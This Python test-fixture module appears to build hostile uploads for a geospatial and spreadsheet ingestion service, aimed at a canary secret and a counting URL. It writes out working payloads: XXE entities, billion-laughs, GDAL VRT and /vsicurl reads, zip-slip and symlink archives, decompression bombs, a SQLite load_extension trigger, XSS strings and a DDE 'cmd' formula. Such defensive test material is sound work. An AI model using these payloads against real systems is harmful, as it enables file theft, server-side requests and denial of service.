"""Hostile files: each builder writes one below a folder, aimed at a canary file and address."""

from __future__ import annotations

import io
import json
import sqlite3
import struct
import zipfile
import zlib
from contextlib import closing
from dataclasses import dataclass
from typing import TYPE_CHECKING

import geopandas as gpd
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import shapely

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

CANARY = "CANARY-7f3a-never-to-be-read"


@dataclass(frozen=True, kw_only=True, slots=True)
class Aim:
    """What an attack is after: a file with a secret, and an address that counts calls."""

    secret: Path
    url: str


def points() -> gpd.GeoDataFrame:
    shapes = [shapely.Point(116.33, 39.72), shapely.Point(116.34, 39.73)]
    return gpd.GeoDataFrame({"name": ["甲", "乙"], "n": [1, 2]}, geometry=shapes, crs=4326)


def zipped(members: dict[str, bytes], *, grown: dict[str, int] | None = None, **info: int) -> bytes:
    """Zip members; ``grown`` are members of so many megabytes of one letter."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            if name in (grown or {}):
                continue
            member = zipfile.ZipInfo(name)
            member.compress_type = zipfile.ZIP_DEFLATED
            for key, value in info.items():
                setattr(member, key, value)
            archive.writestr(member, data)
        for name, megabytes in (grown or {}).items():
            with archive.open(name, "w") as out:
                for _ in range(megabytes):
                    out.write(b"A" * (1 << 20))
    return buffer.getvalue()


def workbook(**parts: bytes) -> dict[str, bytes]:
    buffer = io.BytesIO()
    pd.DataFrame({"单位名称": ["甲公司"], "职工人数": [120]}).to_excel(buffer, index=False)
    with zipfile.ZipFile(buffer) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return members | parts


def vrt(source: str, driver_name: str = "points") -> bytes:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="{driver_name}"><SrcDataSource>{source}'
        "</SrcDataSource><SrcLayer>secret</SrcLayer></OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def geojson(**extra: object) -> bytes:
    feature = {
        "type": "Feature",
        "properties": {"name": "甲"},
        "geometry": {"type": "Point", "coordinates": [116.33, 39.72]},
    }
    return json.dumps({"type": "FeatureCollection", "features": [feature], **extra}).encode()


def kml(inner: str, head: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{head}'
        f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{inner}</Document></kml>'
    ).encode()


PLACEMARK = (
    "<Placemark><name>甲</name><Point><coordinates>116.33,39.72</coordinates></Point></Placemark>"
)


def shapefile(folder: Path, **extra: bytes) -> dict[str, bytes]:
    points().rename(columns={"name": "nm"}).to_file(folder / "p.shp", encoding="UTF-8")
    found = {f.name: f.read_bytes() for f in folder.glob("p.*")}
    for file in folder.glob("p.*"):
        file.unlink()
    return found | extra


def geopackage(folder: Path, *statements: str) -> bytes:
    path = folder / "p.gpkg"
    points().to_file(path, driver="GPKG", layer="p")
    with closing(sqlite3.connect(path)) as link:
        link.execute("PRAGMA writable_schema=ON")
        for statement in statements:
            link.execute(statement)
        link.commit()
    data = path.read_bytes()
    path.unlink()
    return data


def lying_zip() -> bytes:
    """An xlsx whose directory says 100 bytes where 300 MB come out."""
    data = bytearray(zipped(workbook(), grown={"xl/worksheets/sheet9.xml": 300}))
    at = data.rfind(b"PK\x01\x02" + b"")
    while at >= 0:
        size = struct.unpack("<I", data[at + 24 : at + 28])[0]
        if size == 300 << 20:
            data[at + 24 : at + 28] = struct.pack("<I", 100)
            break
        at = data.rfind(b"PK\x01\x02", 0, at)
    return bytes(data)


def deep_json() -> bytes:
    return b'{"type":"FeatureCollection","features":' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def sheet_bomb() -> bytes:
    """A sheet of two million empty styled rows in a few kilobytes."""
    row = b'<row r="1"><c r="A1" s="1"/></row>'
    body = b"<worksheet><sheetData>" + row * 2_000_000 + b"</sheetData></worksheet>"
    return zipped(workbook(**{"xl/worksheets/sheet1.xml": body}))


def strings_bomb() -> bytes:
    return zipped(workbook(), grown={"xl/sharedStrings.xml": 450})


def many_rows() -> bytes:
    cells = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 400_001)
    )
    body = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>" + cells + b"</sheetData></worksheet>"
    )
    return zipped(workbook(**{"xl/worksheets/sheet1.xml": body}))


def parquet_bomb() -> bytes:
    buffer = io.BytesIO()
    column = pa.DictionaryArray.from_arrays(
        pa.array([0] * 290_000, pa.int8()), pa.array(["X" * 30_000])
    )
    pq.write_table(pa.table({"name": column}), buffer, store_schema=False)
    return buffer.getvalue()


def formulas() -> bytes:
    cells = ['=HYPERLINK("{u}","点我")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
    lines = [f'"{cell}",120,116.33,39.7{n}' for n, cell in enumerate(cells)]
    lines = [line.replace('""', '"') for line in lines]
    rows = ["单位名称,职工人数,经度,纬度"]
    for n, cell in enumerate(cells):
        quoted = cell.replace('"', '""')
        rows.append(f'"{quoted}",120,116.33,39.7{n}')
    return "\n".join(rows).encode()


def scripts() -> bytes:
    cells = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)"]
    rows = ["单位名称,职工人数,经度,纬度"]
    rows += [f'"{cell}",120,116.33,39.7{n}' for n, cell in enumerate(cells)]
    return "\n".join(rows).encode()


def entities(aim: Aim) -> str:
    return f'<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{aim.secret}">]>'


LAUGHS = (
    "<!DOCTYPE kml [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(9))
    + "]>"
)


def hostile(folder: Path, aim: Aim) -> dict[str, Callable[[], bytes]]:
    """Every attack: file name to what makes its bytes."""
    secret, url = str(aim.secret), aim.url
    link = {"crs": {"type": "link", "properties": {"href": url, "type": "proj4"}}}
    flat = {"crs": {"type": "link", "href": url}}
    named = {"crs": {"type": "name", "properties": {"name": url}}}
    wkt = f'BOUNDCRS[SOURCECRS[GEOGCRS["x"]],ABRIDGEDTRANSFORMATION["NTv2",METHOD["{url}"]]]'
    up = "../../escaped.shp"
    return {
        # GDAL virtual files under good names
        "up.geojson": lambda: vrt(secret),
        "up.csv": lambda: vrt(f"CSV:{secret}"),
        "up.kml": lambda: vrt(f"/vsicurl/{url}/x.geojson"),
        "up.gpkg": lambda: vrt(f"/vsizip/{secret}"),
        "blank.geojson": lambda: b"\n\n   " + vrt(secret),
        "bom.geojson": lambda: b"\xef\xbb\xbf" + vrt(secret),
        "prolog.geojson": lambda: b"<?xml version='1.0'?><!-- {} -->" + vrt(secret),
        "wide.geojson": lambda: vrt(secret).decode().encode("utf-16"),
        "raster.csv": lambda: (
            f"<VRTDataset><SourceFilename>{secret}</SourceFilename></VRTDataset>".encode()
        ),
        "service.geojson": lambda: (
            f"<GDAL_WMS><Service><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>".encode()
        ),
        "vrt_in_zip.zip": lambda: zipped({"a.vrt": vrt(secret)}),
        "vrt_as_shp.zip": lambda: zipped({"p.shp": vrt(secret), "p.dbf": b"x", "p.shx": b"x"}),
        "vrt_in_kmz.kmz": lambda: zipped({"doc.kml": vrt(secret)}),
        # addresses to be called
        "crs_link.geojson": lambda: geojson(**link),
        "crs_link_flat.geojson": lambda: geojson(**flat),
        "crs_name_url.geojson": lambda: geojson(**named),
        "crs_number.geojson": lambda: geojson(crs=7),
        "vsicurl.csv": lambda: f"name,lon,lat\n/vsicurl/{url},116,39\n".encode(),
        "network_link.kml": lambda: kml(
            f"<NetworkLink><Link><href>{url}</href></Link></NetworkLink>"
        ),
        "network_link_and_place.kml": lambda: kml(
            f"<NetworkLink><Link><href>{url}</href></Link></NetworkLink>{PLACEMARK}"
        ),
        "icon.kml": lambda: kml(
            f"<Style><IconStyle><Icon><href>{url}</href></Icon></IconStyle></Style>{PLACEMARK}"
        ),
        "schema_location.kml": lambda: kml(PLACEMARK).replace(
            b"<kml ",
            f'<kml xsi:schemaLocation="a {url}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '.encode(),
        ),
        "prj_url.zip": lambda: zipped(shapefile(folder, **{"p.prj": wkt.encode()})),
        "topojson.geojson": lambda: b'{"type":"Topology","objects":{},"arcs":[]}',
        "esri.geojson": lambda: b'{"geometryType":"esriGeometryPoint","features":[]}',
        "wfs.geojson": lambda: f"<WFS_Capabilities><href>{url}</href></WFS_Capabilities>".encode(),
        "stac.geojson": lambda: json.dumps({"type": "Catalog", "links": [{"href": url}]}).encode(),
        # XML entities
        "entity.kml": lambda: kml(PLACEMARK.replace("甲", "&x;"), entities(aim)),
        "entity_url.kml": lambda: kml(PLACEMARK, f'<!DOCTYPE kml SYSTEM "{url}">'),
        "laughs.kml": lambda: kml(PLACEMARK.replace("甲", "&j;"), LAUGHS),
        "entity_wide.kml": lambda: (
            kml(PLACEMARK, entities(aim)).decode().replace("UTF-8", "UTF-16").encode("utf-16")
        ),
        "parameter_entity.kml": lambda: kml(
            PLACEMARK, f'<!DOCTYPE kml [<!ENTITY % p SYSTEM "{url}"> %p;]>'
        ),
        "entity.xlsx": lambda: zipped(
            workbook(
                **{
                    "xl/sharedStrings.xml": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]><sst>&x;</sst>'.encode()
                }
            )
        ),
        "entity.osm": lambda: (
            f'<?xml version="1.0"?><!DOCTYPE osm [<!ENTITY x SYSTEM "file://{secret}">]><osm version="0.6"><node id="1" lat="39" lon="116"><tag k="name" v="&x;"/><tag k="amenity" v="x"/></node></osm>'.encode()
        ),
        # archives that climb, hide or explode
        "slip.zip": lambda: zipped(shapefile(folder) | {up: b"x"}),
        "slip_windows.zip": lambda: zipped(shapefile(folder) | {"..\\..\\evil.shp": b"x"}),
        "absolute.zip": lambda: zipped(shapefile(folder) | {"/srv/evil.dbf": b"x"}),
        "drive.zip": lambda: zipped(shapefile(folder) | {"C:/evil.dbf": b"x"}),
        "slip.kmz": lambda: zipped({"../doc.kml": kml(PLACEMARK)}),
        "link.zip": lambda: zipped({"p.shp": secret.encode()}, external_attr=0o120777 << 16),
        "nested.zip": lambda: zipped({"p.shp": b"x", "inner.zip": zipped({"a": b"b"})}),
        "program.zip": lambda: zipped(shapefile(folder) | {"run.exe": b"MZ"}),
        "many_members.zip": lambda: zipped({f"{n}.shp": b"" for n in range(5_000)}),
        "bomb.zip": lambda: zipped(shapefile(folder) | {"p.cpg": b"0" * (60 << 20)}),
        "bomb.kmz": lambda: zipped({"doc.kml": b" " * (60 << 20)}),
        "sheet_bomb.xlsx": sheet_bomb,
        "strings_bomb.xlsx": strings_bomb,
        "lying.xlsx": lying_zip,
        "many_rows.xlsx": many_rows,
        "bomb.parquet": parquet_bomb,
        "deep.geojson": deep_json,
        "long_cell.csv": lambda: ("单位名称,职工人数\n" + "甲" * 200_000 + ",1\n").encode(),
        "wide.csv": lambda: (",".join(f"c{n}" for n in range(5_000)) + "\n").encode() * 2,
        # the wrong thing under a good name
        "program.xlsx": lambda: b"MZ\x90\x00" + b"\x00" * 512,
        "script.csv": lambda: b"#!/bin/sh\ncurl x\n",
        "page.xls": lambda: f"<html><body><img src='{url}'></body></html>".encode(),
        "pdf.geojson": lambda: b"%PDF-1.7\n",
        "picture.csv": lambda: b"\x89PNG\r\n\x1a\n" + zlib.compress(b"x" * 999),
        "macro.xlsx": lambda: zipped(workbook(**{"xl/vbaProject.bin": b"\xd0\xcf"})),
        "word.xlsx": lambda: zipped({"word/document.xml": b"<a/>"}),
        "archive.csv": lambda: b"\x1f\x8b\x08" + b"\x00" * 64,
        "noise.gpkg": lambda: bytes(range(256)) * 40,
        "zeros.csv": lambda: b"\x00" * 4096,
        "cut.xlsx": lambda: zipped(workbook())[:1500],
        "plain.sqlite.gpkg": lambda: b"SQLite format 3\x00" + b"\x00" * 4096,
        # databases and sheets with something alive in them
        "view.gpkg": lambda: geopackage(folder, "CREATE VIEW v AS SELECT * FROM p"),
        "trigger.gpkg": lambda: geopackage(
            folder, "CREATE TRIGGER evil AFTER INSERT ON p BEGIN SELECT load_extension('x'); END"
        ),
        "virtual.gpkg": lambda: geopackage(
            folder,
            "INSERT INTO sqlite_master(type,name,tbl_name,rootpage,sql) VALUES('table','s','s',0,"
            f"'CREATE VIRTUAL TABLE s USING VirtualOGR(''{secret}'')')",
        ),
        "external.xlsx": lambda: zipped(
            workbook(**{"xl/externalLinks/externalLink1.xml": f"<a href='{url}'/>".encode()})
        ),
        "formulas.csv": formulas,
        "scripts.csv": scripts,
    }


HARMLESS = frozenset(
    {
        "vsicurl.csv",
        "network_link_and_place.kml",
        "icon.kml",
        "schema_location.kml",
        "prj_url.zip",
        "external.xlsx",
        "formulas.csv",
        "scripts.csv",
    }
)
"""Attacks on a file that holds honest rows besides: these rows are read, the attack does nothing."""
